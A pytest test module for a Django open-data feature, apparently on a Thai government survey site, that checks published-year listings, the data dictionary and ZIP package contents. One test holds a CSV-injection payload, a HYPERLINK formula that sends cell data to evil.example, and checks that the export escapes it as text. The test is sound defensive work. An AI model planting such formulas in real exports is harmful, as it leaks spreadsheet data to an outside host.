"""The open data: the page of published years, the data dictionary, and each year's package, whose
numbers are the current run's GroupScore / GroupDimensionScore / ResponseScore rows and whose
winners are the published awards'. Nothing of an unpublished year, for anyone."""

import csv
import io
import json
import zipfile
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from django.utils.html import escape
from pytest_django.asserts import assertContains, assertNotContains

from agencies import roles
from agencies.models import Agency
from agencies.tests.factories import (
    DepartmentFactory,
    ProvinceFactory,
    ProvincialUnitFactory,
    user_with_role,
)
from awards import services
from awards.models import AwardCategory, Candidate
from awards.shortlists import shortlists_generate
from results import opendata
from surveys.models import (
    GroupDimensionScore,
    GroupScore,
    ResponseRank,
    ResponseScore,
    ScoringRun,
    SurveyYear,
)
from surveys.scoring import score_display
from surveys.tests.scored import Figures, scored_year

from .conftest import PASSWORD, YEAR

UNPUBLISHED = 2569

# Helpers shared with test_api.py ------------------------------------------------------------------


def points(value) -> Decimal | None:
    return score_display(value)


def current_groups(survey_year: SurveyYear):
    return GroupScore.objects.filter(run__year=survey_year, run__is_current=True)


def expected_aggregates(survey_year: SurveyYear) -> dict[tuple[str, str], dict]:
    """(scope, key) → the figures of the current run's GroupScore and GroupDimensionScore rows."""
    means = {}
    for item in GroupDimensionScore.objects.filter(group__in=current_groups(survey_year)).values(
        "group_id", "dimension__code", "mean"
    ):
        means.setdefault(item["group_id"], {})[item["dimension__code"]] = points(item["mean"])
    return {
        (group.scope, group.key): {
            "agencies": group.agencies,
            "overall_mean": points(group.overall_mean),
            "rank": group.rank,
            "previous_mean": points(group.previous_mean),
            "change": points(group.change),
            "dimension_means": means[group.pk],
        }
        for group in current_groups(survey_year)
    }


def expected_winners(survey_year: SurveyYear) -> list[tuple[str, str, Decimal | None]]:
    """(category code, winner's Thai name, overall score) of the awards' winners."""
    return [
        (
            candidate.shortlist.category.code,
            candidate.agency.name_th if candidate.agency else candidate.nominee,
            points(candidate.overall),
        )
        for candidate in Candidate.objects.filter(
            is_winner=True,
            shortlist__is_current=True,
            shortlist__category__year=survey_year,
            shortlist__category__status=AwardCategory.Status.FINALISED,
        )
        .select_related("shortlist__category", "agency")
        .order_by("shortlist__category__order", "order")
    ]


def make_chair():
    chair = user_with_role(roles.AWARD_COMMITTEE)
    chair.groups.add(Group.objects.get(name=roles.AWARD_CHAIR))
    return chair


def awards_decide(survey_year: SurveyYear, *, winners: int, member, staff, publish=True):
    """A "top overall, department level" category whose proposed `winners` win, finalised and
    (unless `publish` is False) published. The year must be scored (not yet published)."""
    category = AwardCategory.objects.create(
        year=survey_year,
        code="TOP",
        order=1,
        name_th="คะแนนรวมสูงสุด ระดับกรม",
        name_en="Top overall score, department level",
        kind=AwardCategory.Kind.TOP_OVERALL,
        level="department",
        winners=winners,
        runners_up=1,
        quorum=1,
    )
    shortlists_generate(year_id=survey_year.pk)
    candidates = list(Candidate.objects.filter(shortlist__category=category))
    for candidate in candidates:
        services.vote_cast(candidate=candidate, member=member, choice="approve")
    services.category_finalise(
        category=category,
        chair=make_chair(),
        winner_ids=[c.pk for c in candidates if c.standing == Candidate.Standing.PROPOSED],
    )
    if publish:
        services.results_publish(year=survey_year, user=staff)
    survey_year.refresh_from_db()
    return category


def awards_of_published_year(survey_year: SurveyYear, *, member, staff, winners=2):
    """Give and publish the awards of a year the `published` fixture already published."""
    SurveyYear.objects.filter(pk=survey_year.pk).update(
        status=SurveyYear.Status.SCORED, published_at=None, published_by=None
    )
    survey_year.refresh_from_db()
    return awards_decide(survey_year, winners=winners, member=member, staff=staff)


def unpublished_year(registry) -> SurveyYear:
    """2569: scored, not published; its aggregates exist and must never be served."""
    return scored_year(
        UNPUBLISHED,
        {registry.a: Figures("91.11"), registry.b: Figures("33.33"), registry.u1: Figures("77.77")},
        status=SurveyYear.Status.SCORED,
    )


def sized_year_build(size: int, *, member, staff) -> SurveyYear:
    """2568 with `size` + 1 departments and `size` provincial units, published with its
    per-agency scores and `size` award winners."""
    departments = [DepartmentFactory() for _ in range(size + 1)]
    province = ProvinceFactory()
    units = [ProvincialUnitFactory(province=province) for _ in range(size)]
    figures = {agency: Figures(str(90 - index)) for index, agency in enumerate(departments)}
    figures |= {agency: Figures(str(60 - index)) for index, agency in enumerate(units)}
    survey_year = scored_year(YEAR, figures)
    awards_decide(survey_year, winners=size, member=member, staff=staff)
    SurveyYear.objects.filter(pk=survey_year.pk).update(publish_agency_scores=True)
    survey_year.refresh_from_db()
    return survey_year


@pytest.fixture
def sized_year(committee_member, dga_staff):
    """sized_year(n): see sized_year_build."""
    return lambda size: sized_year_build(size, member=committee_member, staff=dga_staff)


def login(client, user):
    assert client.login(username=user.email, password=PASSWORD)
    return client


def english(client):
    client.post(reverse("set_language"), {"language": "en", "next": "/"})
    return client


def package_of(response) -> zipfile.ZipFile:
    assert response.status_code == 200
    return zipfile.ZipFile(io.BytesIO(response.content))


def csv_rows(archive: zipfile.ZipFile, name: str) -> list[dict]:
    content = archive.read(name)
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def json_rows(archive: zipfile.ZipFile, name: str):
    return json.loads(archive.read(name).decode("utf-8"))


def cell(value: Decimal | None) -> str:
    return "" if value is None else f"{value:f}"


# The page of published years ----------------------------------------------------------------------


def test_index_lists_published_years_with_their_packages(client, published):
    response = client.get(reverse("results:open_data"))

    assert response.status_code == 200
    assert [year.year for year in response.context["years"]] == [2568, 2567]
    assertContains(response, reverse("results:package", args=[2568]))
    assertContains(response, reverse("results:package", args=[2567]))
    assertContains(response, reverse("results:dictionary"))
    assertContains(response, reverse("api:years"))
    assertContains(response, reverse("api:docs"))
    assertContains(response, "ผลการสำรวจ ปี 2568")  # B.E. in Thai


def test_index_shows_years_in_ce_in_english(client, published):
    response = english(client).get(reverse("results:open_data"))

    assertContains(response, "Survey results 2025")
    assertNotContains(response, "Survey results 2568")


@pytest.mark.parametrize("who", ["anonymous", "dga_staff", "committee_member"])
def test_index_never_lists_an_unpublished_year(client, published, who, request):
    unpublished_year(published)
    if who != "anonymous":
        login(client, request.getfixturevalue(who))

    response = client.get(reverse("results:open_data"))

    assert UNPUBLISHED not in [year.year for year in response.context["years"]]
    assertNotContains(response, reverse("results:package", args=[UNPUBLISHED]))
    assertNotContains(response, f"การสำรวจปี {UNPUBLISHED}")  # its title


def test_index_without_published_years_says_so(client, registry):
    unpublished_year(registry)

    response = client.get(reverse("results:open_data"))

    assert list(response.context["years"]) == []
    assertContains(response, "ยังไม่มีปีการสำรวจที่เผยแพร่ผล")


def test_index_takes_one_query(client, published, django_assert_num_queries):
    with django_assert_num_queries(1):  # the published years
        client.get(reverse("results:open_data"))


# The data dictionary ------------------------------------------------------------------------------


def test_dictionary_page_lists_every_column_with_its_unit(client, db):
    with_no_query = client.get(reverse("results:dictionary"))

    assert with_no_query.status_code == 200
    for file, columns in opendata.DATA_DICTIONARY.items():
        assertContains(with_no_query, f'id="file-{file}"')
        for column in columns:
            assertContains(with_no_query, f"<code>{escape(column.csv_name)}</code>")
            assertContains(with_no_query, column.meaning_th)
    assertContains(with_no_query, "คะแนน 0–100 ทศนิยม 2 ตำแหน่ง")


def test_dictionary_page_in_english(client, db):
    response = english(client).get(reverse("results:dictionary"))

    assertContains(response, "Mean overall score of the group")
    assertContains(response, "points 0–100, 2 decimals")
    assertNotContains(response, "ค่าเฉลี่ยคะแนนรวมของกลุ่ม")


def test_dictionary_page_takes_no_query(client, db, django_assert_num_queries):
    with django_assert_num_queries(0):
        client.get(reverse("results:dictionary"))


# The package: who gets it -------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["anonymous", "dga_staff", "committee_member"])
def test_package_of_an_unpublished_year_is_404_for_everyone(client, published, who, request):
    unpublished_year(published)
    if who != "anonymous":
        login(client, request.getfixturevalue(who))

    assert client.get(reverse("results:package", args=[UNPUBLISHED])).status_code == 404
    assert client.get(reverse("results:package", args=[2590])).status_code == 404


def test_package_of_a_published_year_is_a_zip_for_anyone(client, published):
    response = client.get(reverse("results:package", args=[YEAR]))

    assert response["Content-Type"] == "application/zip"
    assert response["Content-Disposition"] == 'attachment; filename="dga-open-data-2568.zip"'
    archive = package_of(response)
    assert sorted(archive.namelist()) == [
        "README.txt",
        "aggregates.csv",
        "aggregates.json",
        "data_dictionary.csv",
        "data_dictionary.json",
        "dimensions.csv",
        "dimensions.json",
        "metadata.json",
        "winners.csv",
        "winners.json",
    ]


def test_the_builders_refuse_an_unpublished_year(registry):
    year = unpublished_year(registry)

    for build in (
        opendata.open_data_package,
        opendata.published_aggregates,
        opendata.published_dimensions,
        opendata.published_winners,
        opendata.published_agency_scores,
    ):
        with pytest.raises(ValueError, match="not published"):
            build(year)


# The package: its numbers -------------------------------------------------------------------------


def test_package_aggregates_are_the_current_runs_group_scores(client, published):
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))
    expected = expected_aggregates(published.year)
    rows = csv_rows(archive, "aggregates.csv")

    assert len(rows) == len(expected) == current_groups(published.year).count()
    for row in rows:
        group = expected[(row["scope"], row["key"])]
        assert row["year"] == "2568"
        assert row["agencies"] == str(group["agencies"])
        assert row["overall_mean"] == cell(group["overall_mean"])
        assert row["rank"] == str(group["rank"])
        assert row["previous_mean"] == cell(group["previous_mean"])
        assert row["change"] == cell(group["change"])
        assert row["dimension_mean_POLICY"] == cell(group["dimension_means"]["POLICY"])
        assert row["dimension_mean_SERVICE"] == cell(group["dimension_means"]["SERVICE"])
    # National: A 80, B 65, C 52, U1 48, U2 50, U3 58 → 58.83; 2567: 53.33.
    national = next(row for row in rows if row["scope"] == "national")
    assert (national["overall_mean"], national["previous_mean"], national["change"]) == (
        "58.83",
        "53.33",
        "5.50",
    )
    assert national["name_th"] == current_groups(published.year).get(scope="national").name_th


def test_package_changes_are_those_of_the_two_figures_beside_them(client, close_figures):
    SurveyYear.objects.filter(pk=close_figures.year.pk).update(publish_agency_scores=True)

    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    national = next(r for r in csv_rows(archive, "aggregates.csv") if r["scope"] == "national")
    agencies = {r["agency_code"]: r for r in csv_rows(archive, "agency_scores.csv")}
    a = agencies[close_figures.a.code]
    # The nation 62.296 against 61.904; A 61.904 against 62.296: ±0.40, not ±0.39.
    assert (national["overall_mean"], national["previous_mean"], national["change"]) == (
        "62.30",
        "61.90",
        "0.40",
    )
    assert (a["overall_score"], a["previous_overall_score"], a["change"]) == (
        "61.90",
        "62.30",
        "-0.40",
    )


def test_package_aggregates_json_holds_the_same_figures(client, published):
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))
    expected = expected_aggregates(published.year)
    rows = json_rows(archive, "aggregates.json")

    assert len(rows) == len(expected)
    for row in rows:
        group = expected[(row["scope"], row["key"])]
        assert Decimal(str(row["overall_mean"])) == group["overall_mean"]
        assert row["rank"] == group["rank"]
        assert row["agencies"] == group["agencies"]
        assert {code: Decimal(str(mean)) for code, mean in row["dimension_means"].items()} == (
            group["dimension_means"]
        )
    assert [row["scope"] for row in rows][:3] == ["national", "level", "level"]


def test_package_ignores_runs_that_are_not_current(client, published):
    old = ScoringRun.objects.create(
        year=published.year,
        trigger=ScoringRun.Trigger.RECOMPUTE,
        status=ScoringRun.Status.COMPLETE,
        finished_at=timezone.now(),
    )
    GroupScore.objects.create(
        run=old,
        scope="national",
        key="all",
        name_th="ทั้งประเทศ",
        name_en="National",
        agencies=99,
        overall_mean=Decimal("99.99"),
        rank=1,
    )

    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    national = [row for row in csv_rows(archive, "aggregates.csv") if row["scope"] == "national"]
    assert [row["overall_mean"] for row in national] == ["58.83"]


def test_package_dimensions_are_the_years_framework(client, published):
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    rows = csv_rows(archive, "dimensions.csv")
    assert [(row["code"], row["name_th"], row["weight"]) for row in rows] == [
        ("POLICY", "มิติ POLICY", "50.00"),
        ("SERVICE", "มิติ SERVICE", "50.00"),
    ]


def test_package_has_no_winners_for_a_year_without_award_categories(client, published):
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    assert csv_rows(archive, "winners.csv") == []
    assert json_rows(archive, "winners.json") == []


def test_package_winners_are_the_published_awards(client, published, committee_member, dga_staff):
    awards_of_published_year(published.year, member=committee_member, staff=dga_staff)

    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    rows = csv_rows(archive, "winners.csv")
    expected = expected_winners(published.year)
    assert len(expected) == 2
    assert [
        (row["category_code"], row["winner_name_th"], Decimal(row["overall_score"])) for row in rows
    ] == expected
    assert [row["agency_code"] for row in rows] == [published.a.code, published.b.code]
    assert rows[0]["overall_score"] == "80.00"
    assert [row["winner_name_en"] for row in json_rows(archive, "winners.json")] == [
        published.a.name_en,
        published.b.name_en,
    ]


def test_package_csv_writes_formulas_as_text_and_json_as_they_are(
    client, published, committee_member, dga_staff
):
    # OWASP's "CSV Injection": a name that a spreadsheet would run as a link to another site.
    hyperlink = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
    Agency.objects.filter(pk=published.a.pk).update(name_th=hyperlink)
    SurveyYear.objects.filter(pk=published.year.pk).update(publish_agency_scores=True)
    awards_of_published_year(published.year, member=committee_member, staff=dga_staff)

    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    assert csv_rows(archive, "winners.csv")[0]["winner_name_th"] == f"'{hyperlink}"
    assert csv_rows(archive, "agency_scores.csv")[0]["name_th"] == f"'{hyperlink}"
    # JSON is read by programs, not spreadsheets: the name as it is.
    assert json_rows(archive, "winners.json")[0]["winner_name_th"] == hyperlink
    assert json_rows(archive, "agency_scores.json")[0]["name_th"] == hyperlink


def test_package_winners_wait_for_the_publication_of_the_year(client, registry, committee_member):
    survey_year = scored_year(YEAR, {registry.a: Figures("80"), registry.b: Figures("70")})
    awards_decide(survey_year, winners=1, member=committee_member, staff=None, publish=False)

    assert Candidate.objects.filter(is_winner=True).count() == 1
    assert client.get(reverse("results:package", args=[YEAR])).status_code == 404
    with pytest.raises(ValueError, match="not published"):
        opendata.published_winners(survey_year)


def test_package_leaves_out_agency_scores_unless_the_year_publishes_them(client, published):
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    assert "agency_scores.csv" not in archive.namelist()
    for name in archive.namelist():
        assert published.a.code not in archive.read(name).decode("utf-8-sig")


def test_package_agency_scores_are_the_current_runs_response_scores(client, published):
    SurveyYear.objects.filter(pk=published.year.pk).update(publish_agency_scores=True)

    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    rows = csv_rows(archive, "agency_scores.csv")
    scores = ResponseScore.objects.filter(run__year=published.year, run__is_current=True)
    assert len(rows) == scores.count() == 6  # D never submitted
    for row in rows:
        score = scores.get(response__agency__code=row["agency_code"])
        national_rank = ResponseRank.objects.get(score=score, group__scope="national").rank
        assert row["overall_score"] == cell(points(score.overall))
        assert row["previous_overall_score"] == cell(points(score.previous_overall))
        assert row["change"] == cell(points(score.change))
        assert row["national_rank"] == str(national_rank)
        for dimension_score in score.dimension_scores.select_related("dimension"):
            column = f"dimension_score_{dimension_score.dimension.code}"
            assert row[column] == cell(points(dimension_score.value))
    assert [row["agency_code"] for row in rows][:2] == [published.a.code, published.b.code]
    a = rows[0]
    assert (a["name_th"], a["level"], a["award_group"], a["ministry_code"]) == (
        published.a.name_th,
        "department",
        "service",
        published.m1.code,
    )
    u3 = next(row for row in rows if row["agency_code"] == published.u3.code)
    assert (u3["province_code"], u3["ministry_code"]) == (published.p2.code, "")


def test_agency_scores_leave_out_scores_held_back_for_problems(registry):
    survey_year = scored_year(
        YEAR,
        {registry.a: Figures("80"), registry.b: Figures("90", problems=["SERVICE-01"])},
        status=SurveyYear.Status.PUBLISHED,
    )
    survey_year.publish_agency_scores = True

    rows = opendata.published_agency_scores(survey_year)

    assert [(row["agency_code"], row["national_rank"]) for row in rows] == [(registry.a.code, 1)]


# The package: how it describes itself -------------------------------------------------------------


def test_every_csv_column_is_in_the_data_dictionary(client, published):
    SurveyYear.objects.filter(pk=published.year.pk).update(publish_agency_scores=True)
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))
    dictionary = csv_rows(archive, "data_dictionary.csv")
    described = {(row["file"], row["column"]) for row in dictionary}

    for file in ("aggregates", "dimensions", "winners", "agency_scores"):
        header = next(csv.reader(io.StringIO(archive.read(f"{file}.csv").decode("utf-8-sig"))))
        for column in header:
            pattern = column.rsplit("_", 1)[0] + "_<CODE>" if "_mean_" in column else column
            pattern = column.rsplit("_", 1)[0] + "_<CODE>" if "_score_" in column else pattern
            assert (f"{file}.csv", pattern) in described, column
    assert all(row["meaning_th"] and row["meaning_en"] and row["unit_en"] for row in dictionary)
    assert json_rows(archive, "data_dictionary.json") == dictionary


def test_package_metadata_names_the_licence_publisher_and_source(client, published):
    archive = package_of(client.get(reverse("results:package", args=[YEAR])))

    metadata = json_rows(archive, "metadata.json")
    assert metadata["licence"] == "Creative Commons Attribution 4.0 International (CC BY 4.0)"
    assert metadata["publisher_en"] == (
        "Digital Government Development Agency (Public Organization)"
    )
    assert (metadata["year_be"], metadata["year_ce"]) == (2568, 2025)
    assert metadata["source_url"] == "http://testserver/open-data/"
    assert metadata["generated_at"]
    readme = archive.read("README.txt").decode("utf-8")
    assert "Creative Commons Attribution 4.0" in readme
    assert "สำนักงานพัฒนารัฐบาลดิจิทัล" in readme


@pytest.mark.parametrize("size", [2, 7])
def test_package_takes_the_same_queries_at_any_size(
    client, sized_year, django_assert_num_queries, size
):
    sized_year(size)

    # The year; its dimensions; the current run, the dimensions, the groups, their dimension
    # means (aggregates); the finalised categories, their current shortlists, the winners with
    # their agencies and provinces (winners; the winning departments have no province to
    # prefetch); the run, the dimensions, the scores with their agencies, their dimension
    # scores, their national ranks (agency scores).
    with django_assert_num_queries(14):
        response = client.get(reverse("results:package", args=[YEAR]))

    archive = package_of(response)
    assert len(csv_rows(archive, "agency_scores.csv")) == 2 * size + 1
    assert len(csv_rows(archive, "winners.csv")) == size


# In a browser -------------------------------------------------------------------------------------


@pytest.mark.browser
@pytest.mark.django_db(transaction=True, serialized_rollback=True)
def test_a_visitor_on_a_phone_downloads_a_years_package(browser, live_server, published):
    context = browser.new_context(
        viewport={"width": 390, "height": 844}, locale="th-TH", accept_downloads=True
    )
    try:
        page = context.new_page()
        page.goto(f"{live_server.url}{reverse('results:open_data')}")
        link = page.locator(f"a[href='{reverse('results:package', args=[YEAR])}']")
        # Nothing wider than the phone's screen.
        assert page.evaluate("document.documentElement.scrollWidth") <= 390
        with page.expect_download() as download:
            link.click()
        archive = zipfile.ZipFile(download.value.path())
        assert "aggregates.csv" in archive.namelist()
        page.screenshot(path="/tmp/h3-open-data-phone.png", full_page=True)
    finally:
        context.close()
